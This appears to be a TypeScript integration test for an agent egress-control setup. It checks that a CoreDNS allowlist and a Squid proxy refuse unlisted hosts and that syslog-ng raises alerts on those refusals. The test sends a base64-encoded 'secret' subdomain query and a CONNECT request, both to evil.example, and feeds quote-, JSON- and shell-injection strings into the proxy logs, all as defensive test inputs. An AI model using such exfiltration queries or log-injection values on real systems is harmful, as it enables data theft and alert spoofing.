import { rmSync } from 'fs';
import { dirname } from 'path';
import { Listener } from './denial-alerts/listener';
import { SyslogNg } from './denial-alerts/syslog-ng';
import { CoreDns, freePort } from './dns-allowlist/coredns';
import { question } from './dns-allowlist/messages';
import { Upstream } from './dns-allowlist/upstream';
import { Sandbox } from './egress-proxy/sandbox';
import { AgentNamespace, AlertRouting, AlertSink, DnsAllowlist, EgressProxy, PodSubnetEgressDeny, DenialAlerts } from '../../src';
import { IMAGE, Manifest, RANGES, objects, only, open } from '../support/app';

/** The real syslog-ng makes events of what the real CoreDNS and the real Squid write. */

const DNS = 'dns-7d9f8b6c5d-x2x7l_resolvers_coredns';
const PROXY = 'proxy-5d9c7b4f6-abcde_gateways_main';

/** Names as long and as odd as Kubernetes takes them; words of syslog-ng among them. */
const ODD = [['x--0-9', '0-0--a'], ['not', 'or'], ['d'.repeat(63), 'n'.repeat(63)], ['filter', 'flags']] as const;
const podOf = (name: string) => (name.length > 46 ? `${name.slice(0, 58)}x2x7l` : `${name}-7d9f8b6c5d-x2x7l`);

let manifests: { readonly corefile: string; readonly squidConf: string; readonly squid: string[] };
let listener: Listener;
let syslog: SyslogNg;

beforeAll(async () => {
  const b = open();
  const runtime = b.runtime;
  const own = (name: string) => new AgentNamespace(b.chart, name, { name });
  const proxy = new EgressProxy(b.chart, 'proxy', { namespace: own('gateways'), runtime, image: IMAGE, name: 'proxy', ...RANGES });
  const dns = new DnsAllowlist(b.chart, 'dns', {
    namespace: own('resolvers'),
    runtime,
    image: IMAGE,
    name: 'dns',
    ...RANGES,
    clusterIP: '10.96.0.53',
    names: ['api.example.com'],
  });
  new PodSubnetEgressDeny(b.chart, 'egress', { namespace: b.namespace, ...RANGES, allowInternet: false, fqdnBackEnd: proxy.fqdnBackEnd })
    .allowToFqdn('api.example.com', 443);
  const alerts = new AlertRouting(b.chart, 'alerts', {
    namespace: own('alerting'),
    runtime,
    image: IMAGE,
    ...RANGES,
    sinks: [AlertSink.webhook({ url: 'https://a.example' })],
  });
  const odd = ODD.map(([name, namespace], i) => new DnsAllowlist(b.chart, `odd-${i}`, {
    namespace: own(namespace), runtime, image: IMAGE, name, ...RANGES, clusterIP: `10.96.1.${i}`, names: ['api.example.com'],
  }));
  new DenialAlerts(b.chart, 'refusals', {
    namespace: own('watch'),
    image: IMAGE,
    alerts,
    proxies: [proxy],
    resolvers: [dns, ...odd],
    eventsPerSecond: 1000,
    ...RANGES,
  });
  const data = (key: string): string => objects(b.chart, 'ConfigMap').map((one) => one.data[key]).find((text) => text !== undefined);
  manifests = {
    corefile: objects(b.chart, 'ConfigMap').find(({ metadata }) => metadata.name === 'dns')!.data.Corefile,
    squidConf: data('squid.conf'),
    squid: objects(b.chart, 'Deployment').find(({ metadata }) => metadata.name === 'proxy')!.spec.template.spec.containers[0].command,
  };
  listener = await Listener.start();
  const [{ command, livenessProbe }] = only(b.chart, 'DaemonSet').spec.template.spec.containers;
  syslog = await SyslogNg.start(data('syslog-ng.conf'), command, livenessProbe.exec.command, listener.url);
});
afterAll(async () => {
  await syslog?.stop();
  listener?.stop();
});

test('what CoreDNS refuses', async () => {
  const upstream = new Upstream();
  const port = await freePort();
  await upstream.start(port);
  const binary = CoreDns.build();
  const coredns = await CoreDns.start(binary, manifests.corefile, `127.0.0.1:${port}`);
  try {
    await coredns.udp(question(['api', 'example', 'com'], 'A'));
    await coredns.udp(question(['c2VjcmV0', 'evil', 'example'], 'A'));
    await coredns.udp(question([Buffer.from('a"b\\c\t'), 'evil', 'example'], 'AAAA'));
    await coredns.tcp(question(['api', 'example', 'com'], 'TXT'));
    await new Promise((later) => setTimeout(later, 200));
    syslog.write(DNS, coredns.lines);
  } finally {
    coredns.stop();
    upstream.stop();
    rmSync(dirname(binary), { recursive: true });
  }
  const events = await listener.next(3); // CoreDNS writes a line after its answer has gone out, so lines may change places
  expect(events).toHaveLength(3);
  const asked = (name: string) => events.find(({ output_fields: fields }) => fields['dns.name'] === name);
  expect(asked('c2vjcmv0.evil.example.')).toEqual({
    output: 'An agent asked the resolver for what is not on its list (client=127.0.0.1 name=c2vjcmv0.evil.example. type=A)',
    priority: 'Warning',
    rule: 'DNS question refused',
    source: 'dns_allowlist',
    hostname: 'node-1',
    time: '2026-11-25T13:00:00.123456789Z',
    tags: ['agents', 'dns', 'network', 'T1071.004'],
    output_fields: {
      'agents.gateway': 'resolvers/dns',
      'fd.cip': '127.0.0.1',
      'fd.l4proto': 'udp',
      'dns.name': 'c2vjcmv0.evil.example.',
      'dns.type': 'A',
      'dns.rcode': 'NXDOMAIN',
    },
  });
  expect(['unprintable', 'api.example.com.'].map((name) => asked(name)?.output_fields)).toEqual([
    expect.objectContaining({ 'dns.type': 'AAAA', 'fd.l4proto': 'udp', 'dns.rcode': 'NXDOMAIN' }),
    expect.objectContaining({ 'dns.type': 'TXT', 'fd.l4proto': 'tcp', 'dns.rcode': 'NOERROR' }),
  ]);
  expect(listener.requests[0].headers['content-type']).toBe('application/json');
});

test('what Squid refuses, whatever is in it', async () => {
  const odd = ['CONNECT a"b\\c\'{}:443 HTTP/1.1\r\n\r\n', 'GET http://x/"},{"verdict":"TCP_TUNNEL HTTP/1.1\r\n\r\n',
    'G"\x01\x7fT \xff"\\\t\x00 HTTP/1.1\r\n\r\n',
    'GET http://x/$(format-json)%22%0a${HOST}`NODE_NAME` HTTP/1.1\r\n\r\n', '\x80\x81\r\n\r\n',
    `GET http://x/${'"'.repeat(8000)} HTTP/1.1\r\n\r\n`];
  const squid = await Sandbox.start(manifests.squidConf, manifests.squid, { 'A api.example.com': [['198.51.100.10']] });
  let lines: string[];
  try {
    for (const request of ['CONNECT api.example.com:443 HTTP/1.1\r\n\r\n', 'CONNECT evil.example:443 HTTP/1.1\r\n\r\n', ...odd]) {
      await squid.ask(request);
    }
    await new Promise((later) => setTimeout(later, 1000)); // a tunnel's line comes when it ends
    lines = squid.written();
  } finally {
    await squid.stop();
  }
  expect(lines).toHaveLength(2 + odd.length);
  syslog.write(PROXY, lines);
  const events = await listener.next(1 + odd.length);
  expect(events).toHaveLength(1 + odd.length);
  expect(events.find(({ output_fields: fields }) => fields['proxy.name'] === 'evil.example')).toEqual({
    output: 'An agent called through the proxy what is not on its list (client=127.0.0.1 method=CONNECT url=evil.example:443)',
    priority: 'Warning',
    rule: 'Connection refused by the egress proxy',
    source: 'egress_proxy',
    hostname: 'node-1',
    time: '2026-11-25T13:00:00.123456789Z',
    tags: ['agents', 'network', 'proxy', 'T1071.001'],
    output_fields: {
      'agents.gateway': 'gateways/proxy',
      'fd.cip': '127.0.0.1',
      'proxy.method': 'CONNECT',
      'proxy.name': 'evil.example',
      'proxy.port': '443',
      'proxy.url': 'evil.example:443',
      'proxy.verdict': 'TCP_DENIED',
      'proxy.status': '403',
    },
  });
  expect(events.filter(({ output }) => output.includes('api.example.com'))).toEqual([]);
  const isJson = (text: string) => text.endsWith('}');
  const refused: Manifest[] = lines.filter(isJson).map((line) => JSON.parse(line))
    .filter(({ verdict }) => !verdict.startsWith('TCP_TUNNEL'));
  const fields: Manifest[] = events.map(({ output_fields: one }) => one);
  expect(fields.filter((one) => one['proxy.verdict'] !== 'CUT_OFF').map((one) => one['proxy.url']).sort())
    .toEqual(refused.map(({ url }) => url).sort());
  const cut = lines.filter((line) => !isJson(line));
  expect(cut.map((line) => line.length)).toEqual([8191]);
  expect(fields.filter((one) => one['proxy.verdict'] === 'CUT_OFF')).toEqual([
    expect.objectContaining({ 'fd.cip': '127.0.0.1', 'proxy.method': 'GET', 'proxy.url': cut[0].slice(0, 500) }),
  ]);
});

describe('logs of others', () => {
  const line = (name: string) => JSON.stringify({ client: '10.244.0.7', proto: 'udp', type: 'A', name, rcode: 'NXDOMAIN' });

  test.each([
    ['another Deployment whose name begins alike', 'dns-two-7d9f8b6c5d-x2x7l_resolvers_coredns'],
    ['another namespace', 'dns-7d9f8b6c5d-x2x7l_agents_coredns'],
    ['another container', 'dns-7d9f8b6c5d-x2x7l_resolvers_other'],
  ])('are not read: %s', async (_, container) => {
    syslog.write(container, [line('forged.example.')]);
    syslog.write(DNS, [line('real.example.')]);
    const events = await listener.next(1);
    await new Promise((later) => setTimeout(later, 1500));
    expect([...events, ...await listener.next(0)].map(({ output_fields: fields }) => fields['dns.name'])).toEqual(['real.example.']);
  });

  test('nor is what a gateway says beside its refusals', async () => {
    syslog.write(DNS, ['[INFO] refused', 'CoreDNS-1.14', '{not json', '{"level":"info"}']);
    syslog.write(DNS, [line('stderr.example.')], 'stderr');
    syslog.write(DNS, [line('real.example.')]);
    expect((await listener.next(1)).map(({ output_fields: fields }) => fields['dns.name'])).toEqual(['real.example.']);
  });
});

describe('gateways of odd names', () => {
  const line = (name: string) => JSON.stringify({ client: '10.244.0.7', proto: 'udp', type: 'A', name, rcode: 'NXDOMAIN' });

  test.each(ODD)('%s of %s is told by its own name, and its log alone is read', async (name, namespace) => {
    const own = `${podOf(name)}_${namespace}_coredns`;
    const others = [own.replace('_coredns', '_main'), own.replace(`_${namespace}_`, `_${namespace}x_`),
      own.replace(`_${namespace}_`, `_x${namespace}_`), `x${own}`];
    others.forEach((other) => syslog.write(other, [line('forged.example.')]));
    syslog.write(own, [line('odd.example.')]);
    const events = await listener.next(1);
    await new Promise((later) => setTimeout(later, 1500));
    expect([...events, ...await listener.next(0)].map(({ output_fields: fields }) => [fields['dns.name'], fields['agents.gateway']]))
      .toEqual([['odd.example.', `${namespace}/${name}`]]);
  });
});

test('what is not taken is sent again', async () => {
  listener.failures.push(503, 503);
  syslog.write(DNS, [JSON.stringify({ client: '10.244.0.7', proto: 'udp', type: 'A', name: 'again.example.', rcode: 'NXDOMAIN' })]);
  expect((await listener.next(1, 200_000)).map(({ output_fields: fields }) => fields['dns.name'])).toEqual(['again.example.']);
});
